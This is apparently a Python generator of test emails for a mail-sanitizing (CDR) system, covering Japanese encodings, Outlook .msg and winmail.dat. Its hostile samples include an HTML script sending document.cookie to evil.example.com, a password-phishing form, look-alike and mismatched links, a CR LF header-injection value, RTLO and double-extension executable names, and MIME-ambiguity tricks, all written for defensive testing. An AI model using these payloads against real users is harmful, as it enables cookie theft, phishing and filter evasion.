"""Mail samples: Japanese mail as Japanese mailers write it, Outlook .msg and winmail.dat, and the
hostile cases of issue 13 (macro workbook in a forwarded mail, programs by every route, deceptive
links, header injection, RFC 7103 ambiguities, deep nesting, many parts, S/MIME).

Messages are assembled as bytes by hand so that every quirk is exactly what real mailers send;
.msg files are written with the compound-file writer of legacy_samples, TNEF by `tnef()` below.
"""
from __future__ import annotations

import base64
import binascii
import datetime
import io
import struct
import tempfile
from pathlib import Path
from urllib.parse import quote

from . import Sample, generator

PASSWORD = "Mail-PPAP-2024"
BODY_JA = ("山田様\r\n\r\nいつもお世話になっております。①会議資料を送付します。\r\n"
           "㈱髙橋商事の﨑田です。ｶﾀｶﾅも含みます。〜よろしくお願いします。\r\n")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" \
      + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200
CSV_SJIS = "番号,氏名\r\n1,山田太郎\r\n2,髙橋花子\r\n".encode("cp932")


def jis(text: str) -> bytes:
    from cdr.formats.mail.japanese import encode_iso2022jp_ms

    return encode_iso2022jp_ms(text)


def ew(text: str, charset: str = "ISO-2022-JP", enc: str = "B") -> str:
    """An RFC 2047 encoded-word as Japanese mailers write it."""
    raw = jis(text) if charset.upper() == "ISO-2022-JP" else text.encode(
        "cp932" if charset.lower() == "shift_jis" else charset)
    if enc == "B":
        return f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    q = "".join(chr(b) if 33 <= b < 127 and chr(b) not in "=?_ " else ("_" if b == 32 else f"={b:02X}") for b in raw)
    return f"=?{charset}?Q?{q}?="


def b64(data: bytes) -> str:
    enc = base64.b64encode(data).decode()
    return "\r\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def head(subject: str = "", frm: str = "", to: str = "kokuho@city.example.lg.jp", extra: str = "",
         mid: str = "<sample@example.jp>") -> str:
    return (f"From: {frm or ew('山田 太郎') + ' <taro@example.jp>'}\r\nTo: {to}\r\n"
            f"Subject: {subject or ew('会議資料の送付')}\r\nDate: Mon, 1 Apr 2024 09:30:00 +0900\r\n"
            f"Message-ID: {mid}\r\n{extra}MIME-Version: 1.0\r\n")


def text_part(text: str = BODY_JA, charset: str = "ISO-2022-JP") -> bytes:
    # Japanese mailers write "shift_jis" but mean Windows' CP932 (with ① and 髙).
    body = jis(text) if charset == "ISO-2022-JP" else text.encode("cp932" if charset == "shift_jis" else charset)
    cte = "7bit" if charset == "ISO-2022-JP" else "8bit"
    return f"Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n".encode() + body


def attachment(data: bytes, name_params: str, mime: str = "application/octet-stream",
               disp_params: str | None = None) -> bytes:
    disp = disp_params if disp_params is not None else name_params.replace("name", "filename", 1)
    return (f"Content-Type: {mime};{name_params}\r\nContent-Disposition: attachment;{disp}\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{b64(data)}").encode()


def simple_name(name: str) -> str:
    """name= as an RFC 2047 encoded-word inside quotes (Outlook's way)."""
    return f' name="{ew(name)}"'


def mixed(header: str, parts: list[bytes], boundary: str = "----=_Part_0_1234") -> bytes:
    out = [header.encode(), f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'.encode(),
           b"This is a multi-part message in MIME format.\r\n"]
    for p in parts:
        out += [f"--{boundary}\r\n".encode(), p, b"\r\n"]
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out)


def alternative(plain: bytes | None, html: bytes, boundary: str = "alt-1") -> bytes:
    parts = []
    if plain is not None:
        parts.append(plain)
    parts.append(html)
    body = b"".join(f"--{boundary}\r\n".encode() + p + b"\r\n" for p in parts) + f"--{boundary}--".encode()
    return f'Content-Type: multipart/alternative; boundary="{boundary}"\r\n\r\n'.encode() + body


def html_part(markup: str) -> bytes:
    return (b"Content-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(markup.encode("utf-8")).encode())


def png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (24, 16), (200, 40, 40)).save(buf, "PNG")
    return buf.getvalue()


def tiny_pdf() -> bytes:
    from .pdf_samples import japanese_pdf

    return japanese_pdf(1, 3)


def macro_xlsm() -> bytes:
    from .office_samples import FAKE_OLE, MSR, WB_RELS, XL_MAIN, _ct, make_xlsx, patch, rels_edit

    with tempfile.TemporaryDirectory() as d:
        x = make_xlsx(Path(d) / "a.xlsx")
        patch(x, Path(d) / "b.xlsm", add={"xl/vbaProject.bin": FAKE_OLE},
              edit={WB_RELS: rels_edit(("rIdVba", MSR + "vbaProject", "vbaProject.bin")),
                    "[Content_Types].xml": _ct(("main", XL_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                                               ("ext", "bin", "application/vnd.ms-office.vbaProject"))})
        return (Path(d) / "b.xlsm").read_bytes()


def ppap_zip() -> bytes:
    import pyzipper

    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(PASSWORD.encode())
        zf.writestr("見積書.csv", CSV_SJIS)
    return buf.getvalue()


# ------------------------------------------------------------------ Outlook .msg and TNEF

def _prop_entries(fixed: dict[int, tuple[int, bytes]], header: int) -> bytes:
    out = b"\x00" * header
    for pid, (ptype, value) in fixed.items():
        out += struct.pack("<II", (pid << 16) | ptype, 6) + value.ljust(8, b"\x00")
    return out


def _u(s: str) -> bytes:
    return s.encode("utf-16-le")


def _filetime(dt: datetime.datetime) -> bytes:
    return struct.pack("<Q", int((dt.timestamp() + 11_644_473_600) * 10_000_000))


# MS-OXRTFCP's own example: "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}" compressed with LZFu.
RTF_LZFU = bytes.fromhex("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c0900206277"
                         "05b06c647d0a800fa0")


def msg_streams(prefix: str, subject: str, body: str | None, sender: tuple[str, str], to: list[tuple[str, str]],
                attachments: list[tuple[str, bytes]] = (), embedded: list[dict] = (), header: int = 32,
                html: str | None = None, ole_objects: int = 0, msg_class: str = "IPM.Note",
                rtf: bytes | None = None) -> dict[str, bytes]:
    """The streams of one message object (MS-OXMSG), under `prefix` ("" for the file)."""
    p = f"{prefix}/" if prefix else ""
    s: dict[str, bytes] = {
        f"{p}__substg1.0_001A001F": _u(msg_class),
        f"{p}__substg1.0_0037001F": _u(subject),
        f"{p}__substg1.0_0C1A001F": _u(sender[0]),
        f"{p}__substg1.0_5D01001F": _u(sender[1]),
        f"{p}__substg1.0_1035001F": _u("<msg-sample@example.jp>"),
        f"{p}__substg1.0_0E04001F": _u("; ".join(n for n, _ in to)),
    }
    if body is not None:
        s[f"{p}__substg1.0_1000001F"] = _u(body)
    if html is not None:
        s[f"{p}__substg1.0_10130102"] = html.encode("utf-8")
    if rtf is not None:
        s[f"{p}__substg1.0_10090102"] = rtf
    fixed = {0x0039: (0x0040, _filetime(datetime.datetime(2024, 4, 1, 0, 30, tzinfo=datetime.UTC))),
             0x3FDE: (0x0003, struct.pack("<I", 65001))}
    s[f"{p}__properties_version1.0"] = _prop_entries(fixed, header)
    for i, (name, addr) in enumerate(to):
        r = f"{p}__recip_version1.0_#{i:08X}"
        s[f"{r}/__substg1.0_3001001F"] = _u(name)
        s[f"{r}/__substg1.0_39FE001F"] = _u(addr)
        s[f"{r}/__properties_version1.0"] = _prop_entries({0x0C15: (0x0003, struct.pack("<I", 1))}, 8)
    n = 0
    for name, data in attachments:
        a = f"{p}__attach_version1.0_#{n:08X}"
        s[f"{a}/__substg1.0_3707001F"] = _u(name)
        s[f"{a}/__substg1.0_37010102"] = data
        s[f"{a}/__properties_version1.0"] = _prop_entries({0x3705: (0x0003, struct.pack("<I", 1))}, 8)
        n += 1
    for _ in range(ole_objects):
        a = f"{p}__attach_version1.0_#{n:08X}"
        s[f"{a}/__substg1.0_3707001F"] = _u("object.bin")
        s[f"{a}/__properties_version1.0"] = _prop_entries({0x3705: (0x0003, struct.pack("<I", 6))}, 8)
        n += 1
    for emb in embedded:
        a = f"{p}__attach_version1.0_#{n:08X}"
        s[f"{a}/__substg1.0_3001001F"] = _u(emb["subject"])
        s[f"{a}/__properties_version1.0"] = _prop_entries({0x3705: (0x0003, struct.pack("<I", 5))}, 8)
        s.update(msg_streams(f"{a}/__substg1.0_3701000D", header=24, **emb))
        n += 1
    return s


def make_msg(**kw) -> bytes:
    from .legacy_samples import write_cfb

    return write_cfb(msg_streams("", **kw))


def tnef(attachments: list[tuple[str, bytes]], body: str = "") -> bytes:
    """A winmail.dat: message body and attachments (MS-OXTNEF), with long file names as MAPI properties."""
    def attr(level: int, aid: int, data: bytes) -> bytes:
        return struct.pack("<BII", level, aid, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += attr(1, 0x00089006, struct.pack("<I", 0x00010000))
    out += attr(1, 0x00069007, struct.pack("<II", 932, 0))
    if body:
        out += attr(1, 0x0002800C, body.encode("cp932") + b"\x00")
    for name, data in attachments:
        out += attr(2, 0x00069002, b"\x01\x00\x00\x00" + b"\x00" * 10)
        out += attr(2, 0x00018010, name.encode("cp932", "replace") + b"\x00")
        out += attr(2, 0x0006800F, data)
        uname = _u(name) + b"\x00\x00"
        props = struct.pack("<I", 1) + struct.pack("<HH", 0x001F, 0x3707) + struct.pack("<I", 1) \
            + struct.pack("<I", len(uname)) + uname + b"\x00" * (-len(uname) % 4)
        out += attr(2, 0x00069005, props)
    return out


# ------------------------------------------------------------------ S/MIME

def _smime(data: bytes, opaque: bool) -> bytes:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "taro@example.jp")])
    now = datetime.datetime(2024, 1, 1)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=3650))
            .sign(key, hashes.SHA256()))
    b = pkcs7.PKCS7SignatureBuilder().set_data(data).add_signer(cert, key, hashes.SHA256())
    if opaque:
        der = b.sign(serialization.Encoding.DER, [])
        return (b'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
                b'Content-Disposition: attachment; filename="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
                + b64(der).encode() + b"\r\n")
    signed = b.sign(serialization.Encoding.SMIME, [pkcs7.PKCS7Options.DetachedSignature])
    return signed.split(b"\r\n", 1)[1] if signed.startswith(b"MIME-Version") else signed


def encrypted_smime() -> bytes:
    body = b64(b"0\x80\x06\x09*\x86H\x86\xf7\r\x01\x07\x03\xa0\x80" + b"\x00" * 64)
    return ('Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
            'Content-Disposition: attachment; filename="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + body + "\r\n").encode()


# ------------------------------------------------------------------ the corpus

def newsletter_html() -> str:
    return ("<html><head><title>市報</title><style>td { border: 1px solid #999 } "
            "body { background: url(https://tracker.example.com/bg.png) }</style></head><body>"
            "<h1>市報 4月号</h1><p>ごみ収集日が変わります。<img src=\"https://tracker.example.com/open.gif?id=123\" "
            "width=1 height=1></p><table><tr><th>地区</th><th>収集日</th></tr><tr><td>北区</td><td>月・木</td></tr>"
            "<tr><td>南区</td><td>火・金</td></tr></table><ul><li>燃えるごみ</li><li>資源ごみ</li></ul>"
            "<p><a href=\"https://www.city.example.lg.jp/gomi\">詳しくはこちら</a></p>"
            "<p><img src=\"http://cdn.example.com/banner.jpg\" alt=\"バナー\"></p></body></html>")


def hostile_html() -> str:
    return ("<html><body onload=\"steal()\"><script>document.location='http://evil.example.com/'+document.cookie"
            "</script><p>請求書をご確認ください。</p><iframe src=\"http://evil.example.com/frame\"></iframe>"
            "<form action=\"http://evil.example.com/login\"><input name=\"password\" type=\"password\"></form>"
            "<a href=\"javascript:alert(1)\">開く</a><object data=\"http://evil.example.com/x.swf\"></object>"
            "<img src=\"http://evil.example.com/pixel.gif\"></body></html>")


def deceptive_html() -> str:
    return ("<html><body><p>ログインしてください: <a href=\"http://login.evil.example.com/city\">"
            "https://www.city.example.lg.jp/login</a></p><p><a href=\"http://192.168.10.5/pay\">支払いページ</a></p>"
            "<p><a href=\"https://xn--pple-43d.com/\">apple.com</a></p>"
            "<p><a href=\"https://www.city.example.lg.jp/\">市のホームページ</a></p></body></html>")


@generator("mail")
def mail_samples(out: Path) -> list[Sample]:
    made: list[Sample] = []
    for sub in ("benign", "hostile"):
        (out / "mail" / sub).mkdir(parents=True, exist_ok=True)

    def put(rel: str, data: bytes, verdict: str, threats: list[str] | None = None, note: str = "",
            password: str | None = None) -> None:
        (out / "mail" / rel).write_bytes(data)
        made.append(Sample(f"mail/{rel}", verdict, threats or [], note, password))

    # ---- benign
    put("benign/iso2022jp_nec.eml", head(ew("①会議のご案内（㈱髙橋商事）")).encode() + text_part(),
        "clean", [], "ISO-2022-JP with NEC row 13, IBM extensions and half-width kana (CP50220)")
    put("benign/plain_lf.eml", (head(ew("改行LFのみ")) + "Content-Type: text/plain; charset=UTF-8\n\n"
                                "LFだけで保存されたメールです。\n").replace("\r\n", "\n").encode(),
        "clean", [], "a file saved with LF line ends throughout is normal")
    put("benign/shift_jis_body.eml", head(ew("Shift_JIS本文", "shift_jis")).encode()
        + text_part("①Shift_JISの本文です。髙橋\r\n", "shift_jis"), "clean", [], "shift_jis label read as cp932")
    names = [
        ("rfc2231_sjis", " name*=shift_jis''" + quote("申請書①.txt".encode("cp932")), None),
        ("rfc2231_utf8_cont", "", " filename*0*=UTF-8''" + quote("住民票の写しの交付申請書".encode())
         + ";\r\n filename*1*=" + quote("（令和６年度）.txt".encode())),
        ("rfc2047_in_quotes", simple_name("届出書.txt"), None),
        ("rfc2047_q", f' name="{ew("様式第１号.txt", "UTF-8", "Q")}"', None),
        ("raw_sjis", ' name="見積書.csv"', None),
        ("raw_utf8", ' name="' + "名簿.csv" + '"', None),
    ]
    parts = [text_part()]
    for kind, params, disp in names:
        data = CSV_SJIS if kind != "rfc2231_utf8_cont" else "申請内容\r\n".encode("cp932")
        part = attachment(data, params or ' name="x.txt"', "text/plain", disp)
        if kind == "raw_sjis":
            part = part.replace("見積書".encode(), "見積書".encode("cp932"))
        parts.append(part)
    put("benign/sjis_names.eml", mixed(head(ew("添付ファイル名の各種形式")), parts), "clean", [],
        "attachment names in RFC 2231 (Shift_JIS, UTF-8 with continuations), RFC 2047 in quotes (B and Q), raw "
        "Shift_JIS and raw UTF-8")
    put("benign/newsletter.eml", head(ew("市報4月号")).encode() + alternative(None, html_part(newsletter_html())),
        "sanitized", ["mail.html_converted", "mail.remote_content"], "HTML newsletter with web bugs")
    related = (b'Content-Type: multipart/related; boundary="rel-1"\r\n\r\n--rel-1\r\n'
               + html_part('<p>地図です。</p><img src="cid:map001@example.jp" alt="地図">') + b"\r\n--rel-1\r\n"
               + b'Content-Type: image/png; name="map.png"\r\nContent-ID: <map001@example.jp>\r\n'
               + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(png()).encode() + b"\r\n--rel-1--")
    put("benign/inline_image.eml", head(ew("地図の送付")).encode() + related, "sanitized",
        ["mail.html_converted"], "HTML with a cid: picture")
    put("benign/with_pdf.eml", mixed(head(ew("資料送付")), [text_part(), attachment(
        tiny_pdf(), simple_name("会議資料.pdf"), "application/pdf")]), "clean", [], "a PDF attachment")
    inner = text_part("署名付きの本文です。\r\n", "UTF-8")
    put("benign/smime_signed.eml", head(ew("署名付きメール")).encode() + _smime(inner, False), "sanitized",
        ["mail.smime_signed"], "S/MIME multipart/signed: delivered unsigned")
    put("benign/smime_opaque.eml", head(ew("署名付きメール（不透明）")).encode() + _smime(inner, True), "sanitized",
        ["mail.smime_signed"], "S/MIME opaque signed-data: the content is taken out")
    put("benign/outlook.msg", make_msg(subject="Outlookからの送付", body="本文です。①㈱\r\n",
                                       sender=("山田 太郎", "taro@example.jp"),
                                       to=[("国保課", "kokuho@city.example.lg.jp")],
                                       attachments=[("名簿.csv", CSV_SJIS)]),
        "clean", [], ".msg with an attachment: comes out as .eml")
    put("benign/outlook_embedded.msg", make_msg(
        subject="転送：申請書", body="転送します。\r\n", sender=("佐藤", "sato@example.jp"),
        to=[("国保課", "kokuho@city.example.lg.jp")],
        embedded=[dict(subject="申請書", body="申請書を添付します。\r\n", sender=("山田", "taro@example.jp"),
                       to=[("佐藤", "sato@example.jp")], attachments=[("申請書.csv", CSV_SJIS)])]),
        "clean", [], ".msg inside .msg")
    put("benign/outlook_html.msg", make_msg(subject="市報", body="", html=newsletter_html(),
                                            sender=("広報", "koho@example.jp"), to=[("国保課", "kokuho@city.example.lg.jp")]),
        "sanitized", ["mail.html_converted", "mail.remote_content"], ".msg with an HTML body (PR_HTML) and web bugs")
    put("benign/outlook_rtf.msg", make_msg(subject="RTF本文", body=None, rtf=RTF_LZFU, sender=("山田", "taro@example.jp"),
                                           to=[("国保課", "kokuho@city.example.lg.jp")]),
        "clean", [], ".msg whose only body is compressed RTF: delivered as body.rtf through the rtf family")
    split = (b'Content-Type: multipart/mixed; boundary="apple"\r\n\r\n--apple\r\n' + text_part("前半です。\r\n", "UTF-8")
             + b'\r\n--apple\r\nContent-Type: image/png\r\nContent-Disposition: inline\r\n'
             b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(png()).encode() + b"\r\n--apple\r\n"
             + text_part("後半です。\r\n", "UTF-8") + b"\r\n--apple--\r\n")
    put("benign/split_body.eml", head(ew("写真付き")).encode() + split, "clean", [],
        "Apple Mail style: text, inline picture, text (both texts kept, the picture attached)")
    put("benign/winmail.eml", mixed(head(ew("Outlookリッチテキスト")), [text_part(), attachment(
        tnef([("見積書.csv", CSV_SJIS)], "本文"), ' name="winmail.dat"', "application/ms-tnef")]),
        "sanitized", ["mail.tnef"], "winmail.dat: its attachment is taken out")
    ppap = mixed(head(ew("見積書（パスワード別送）")), [text_part("パスワードは別途お送りします。\r\n"),
                                                   attachment(ppap_zip(), simple_name("見積書.zip"), "application/zip")])
    put("benign/ppap_with_password.eml", ppap, "sanitized", ["archive.encrypted"],
        "PPAP ZIP opened with the password given to the job", PASSWORD)
    put("benign/ppap_without_password.eml", ppap, "sanitized", ["mail.attachment_blocked", "archive.encrypted"],
        "PPAP ZIP without its password: notice part, listed in mail.needs_password")
    put("benign/broken_utf8.eml", head("=?UTF-8?B?" + base64.b64encode("壊れた".encode() + b"\xff").decode() + "?=")
        .encode() + text_part("x", "UTF-8").replace(b"\r\n\r\nx", b"\r\n\r\n\xe3\x81\x82\xe3\x81"), "clean",
        ["mail.decode_defect"], "undecodable bytes: U+FFFD, reported")

    # ---- hostile
    fwd_inner = mixed(head(ew("予算書"), mid="<inner@example.jp>"), [text_part("予算書です。\r\n"), attachment(
        macro_xlsm(), simple_name("予算書.xlsm"), "application/vnd.ms-excel.sheet.macroEnabled.12")],
        boundary="inner-boundary")
    put("hostile/forwarded_macro.eml", mixed(head(ew("転送：予算書")), [
        text_part("転送します。\r\n"),
        b'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="forward.eml"\r\n\r\n' + fwd_inner]),
        "sanitized", ["mail.attachment_sanitized", "ooxml.vba"], "a forwarded mail holding a macro workbook")
    put("hostile/exe_attachment.eml", mixed(head(ew("請求書")), [text_part(), attachment(
        EXE, simple_name("請求書.pdf.exe"))]), "sanitized", ["mail.attachment_blocked", "file.executable"],
        "double extension program")
    put("hostile/rtlo_name.eml", mixed(head(ew("請求書")), [text_part(), attachment(
        EXE, " name*=UTF-8''" + quote("invoice\u202efdp.exe".encode()))]), "sanitized",
        ["mail.attachment_blocked", "mail.attachment_name"], "RTLO name: invoice\u202efdp.exe shows as invoiceexe.pdf")
    put("hostile/conflicting_names.eml", mixed(head(ew("資料")), [text_part(), attachment(
        EXE, ' name="report.exe"', "application/octet-stream", ' filename="report.txt"')]), "sanitized",
        ["mail.attachment_blocked"], "filename says .txt, name says .exe")
    uulines = b"".join(binascii.b2a_uu(EXE[i:i + 45]) for i in range(0, len(EXE), 45))
    put("hostile/uuencoded_exe.eml", head(ew("プログラム")).encode() + b"Content-Type: text/plain\r\n\r\n"
        b"see attached\r\n\r\nbegin 644 setup.exe\r\n" + uulines.replace(b"\n", b"\r\n") + b"`\r\nend\r\n",
        "sanitized", ["mail.uuencode", "mail.attachment_blocked"], "a uuencoded program in the body")
    put("hostile/html_script.eml", head(ew("ご確認ください")).encode() + html_part(hostile_html()), "sanitized",
        ["mail.script", "mail.frame", "mail.form", "mail.remote_content", "mail.html_converted"],
        "script, iframe, form, object, javascript: link, web bug")
    put("hostile/deceptive_links.eml", head(ew("ログインのお願い")).encode() + html_part(deceptive_html()),
        "sanitized", ["mail.deceptive_link"], "text shows another host, IP-literal host, punycode look-alike")
    inj = "=?UTF-8?Q?=E3=81=8A=E7=9F=A5=E3=82=89=E3=81=9B=0D=0ABcc:_all@city.example.lg.jp?="
    put("hostile/header_injection.eml", head(inj).encode() + text_part(), "sanitized", ["mail.header_injection"],
        "CR LF hidden in an encoded-word")
    # RFC 7103 ambiguities
    two_ct = head(ew("二重")).replace("MIME-Version", "Content-Type: text/html\r\nMIME-Version") + \
        "Content-Type: text/plain\r\n\r\n<script>x</script>\r\n"
    put("hostile/two_content_types.eml", two_ct.encode(), "blocked", ["mail.ambiguous_mime"])
    put("hostile/duplicate_boundary.eml", head(ew("境界重複")).encode()
        + b'Content-Type: multipart/mixed; boundary="a"; boundary="b"\r\n\r\n--a\r\n' + text_part()
        + b"\r\n--b\r\n" + attachment(EXE, ' name="x.exe"') + b"\r\n--a--\r\n--b--\r\n", "blocked",
        ["mail.ambiguous_mime"])
    put("hostile/epilogue_parts.eml", mixed(head(ew("エピローグ")), [text_part()]) + b"\r\n--hidden\r\n"
        + attachment(EXE, ' name="x.exe"') + b"\r\n", "sanitized", ["mail.ambiguous_mime"],
        "a part hidden after the final boundary")
    put("hostile/missing_final_boundary.eml", mixed(head(ew("終端なし")), [text_part(), attachment(
        EXE, ' name="x.exe"')]).rsplit(b"------=_Part_0_1234--", 1)[0], "sanitized", ["mail.ambiguous_mime"],
        "no final boundary: the last part is dropped")
    put("hostile/bare_cr_header.eml", head(ew("CR")).replace("To:", "X-A: 1\rBcc: all@x\r\nTo:").encode()
        + text_part(), "blocked", ["mail.ambiguous_mime"])
    put("hostile/mixed_line_ends.eml", head(ew("改行混在")).replace("To:", "X-A: 1\nTo:", 1).encode()
        + text_part(), "blocked", ["mail.ambiguous_mime"])
    put("hostile/boundary_lookalike.eml", mixed(head(ew("紛らわしい境界")), [text_part()]).replace(
        b"This is a multi", b"------=_Part_0_1234x\r\nThis is a multi"), "blocked", ["mail.ambiguous_mime"])
    padded = (b'Content-Type: text/plain; name="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
              b"QUJD\r\nQQ==TVqQAAMAAAA=\r\n")
    put("hostile/base64_after_padding.eml", mixed(head(ew("base64")), [text_part(), padded]), "sanitized",
        ["mail.ambiguous_mime"], "data after the base64 padding: decoders disagree")
    put("hostile/header_over_limit.eml", head(ew("巨大ヘッダー"), extra="X-Junk: " + "a" * 300_000 + "\r\n").encode()
        + text_part(), "blocked", ["mail.header_limit"])
    deep = text_part("深い\r\n", "UTF-8")
    for i in range(1200):
        deep = f'Content-Type: multipart/mixed; boundary="d{i}"\r\n\r\n--d{i}\r\n'.encode() + deep \
            + f"\r\n--d{i}--".encode()
    put("hostile/deep_nesting.eml", head(ew("深い入れ子")).encode() + deep, "blocked", ["mail.too_deep"])
    put("hostile/many_parts.eml", mixed(head(ew("部品多数")), [text_part("p\r\n", "UTF-8")] * 2000), "blocked",
        ["mail.too_many_parts"])
    nested = head(ew("0"), mid="<n0@example.jp>").encode() + text_part("最深部\r\n", "UTF-8")
    for i in range(1, 15):
        nested = mixed(head(ew(str(i)), mid=f"<n{i}@example.jp>"), [
            text_part("転送\r\n", "UTF-8"), b"Content-Type: message/rfc822\r\n\r\n" + nested], boundary=f"n{i}")
    put("hostile/nested_messages.eml", nested, "blocked", ["mail.too_deep"], "message/rfc822 14 levels deep")
    put("hostile/smime_encrypted.eml", head(ew("暗号化")).encode() + encrypted_smime(), "blocked",
        ["mail.smime_encrypted"])
    put("hostile/external_body.eml", mixed(head(ew("外部参照")), [text_part(),
        b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example.com/x.exe"\r\n\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n"]), "sanitized", ["mail.ambiguous_mime"])
    put("hostile/outlook_exe.msg", make_msg(subject="請求書", body="ご確認ください。\r\n",
                                           sender=("請求担当", "billing@example.com"),
                                           to=[("国保課", "kokuho@city.example.lg.jp")],
                                           attachments=[("請求書.exe", EXE)], ole_objects=1),
        "sanitized", ["mail.attachment_blocked", "file.executable"], ".msg with a program and an OLE object")
    put("hostile/smime_encrypted.msg", make_msg(subject="暗号化", body="", msg_class="IPM.Note.SMIME",
                                               sender=("山田", "taro@example.jp"),
                                               to=[("国保課", "kokuho@city.example.lg.jp")],
                                               attachments=[("smime.p7m", b"0\x80" + b"\x00" * 40)]),
        "blocked", ["mail.smime_encrypted"], "Outlook's encrypted S/MIME message class")
    put("hostile/winmail_exe.dat", tnef([("setup.exe", EXE), ("メモ.txt", "メモです\r\n".encode("cp932"))], "本文"),
        "sanitized", ["mail.attachment_blocked", "mail.tnef"], "standalone winmail.dat holding a program")
    return made


def japanese_mix(n: int = 12) -> list[tuple[str, bytes]]:
    """A fixed mix for the benchmark: plain ISO-2022-JP mails, HTML newsletters, mails with 1-5
    Office/PDF attachments."""
    from .office_samples import make_docx, make_xlsx

    with tempfile.TemporaryDirectory() as d:
        docx = make_docx(Path(d) / "a.docx").read_bytes()
        xlsx = make_xlsx(Path(d) / "b.xlsx").read_bytes()
    pdf = tiny_pdf()
    files = [("資料.docx", docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
             ("集計.xlsx", xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
             ("報告.pdf", pdf, "application/pdf")]
    mix: list[tuple[str, bytes]] = []
    for i in range(n):
        kind = i % 3
        h = head(ew(f"第{i + 1}号 ご連絡"), mid=f"<mix{i}@example.jp>")
        if kind == 0:
            mix.append((f"plain{i}.eml", h.encode() + text_part(BODY_JA * 20)))
        elif kind == 1:
            mix.append((f"news{i}.eml", h.encode() + alternative(text_part(BODY_JA, "UTF-8"),
                                                                  html_part(newsletter_html() * 3))))
        else:
            k = 1 + (i // 3) % 5
            atts = [attachment(files[j % 3][1], simple_name(f"{j}_{files[j % 3][0]}"), files[j % 3][2])
                    for j in range(k)]
            mix.append((f"attach{i}.eml", mixed(h, [text_part()] + atts)))
    return mix


__all__ = ["mail_samples", "japanese_mix", "make_msg", "tnef", "PASSWORD"]
